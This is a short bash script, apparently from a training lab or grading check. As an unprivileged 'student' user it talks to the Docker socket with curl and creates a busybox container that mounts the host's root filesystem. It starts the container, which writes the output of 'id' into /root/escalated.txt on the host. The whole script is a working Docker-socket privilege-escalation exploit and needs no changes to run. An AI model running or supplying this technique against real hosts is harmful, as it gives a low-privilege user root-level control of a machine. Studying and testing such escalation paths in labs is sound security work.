#!/bin/bash
set -euo pipefail
S=/var/run/docker.sock
runuser -u student -- curl -s --unix-socket $S -H 'Content-Type: application/json' \
  -d '{"Image":"busybox","Cmd":["sh","-c","id > /host/root/escalated.txt"],"HostConfig":{"Binds":["/:/host"]}}' \
  'http://localhost/containers/create?name=escalate'
runuser -u student -- curl -s --unix-socket $S -X POST http://localhost/containers/escalate/start
runuser -u student -- curl -s --unix-socket $S -X POST http://localhost/containers/escalate/wait
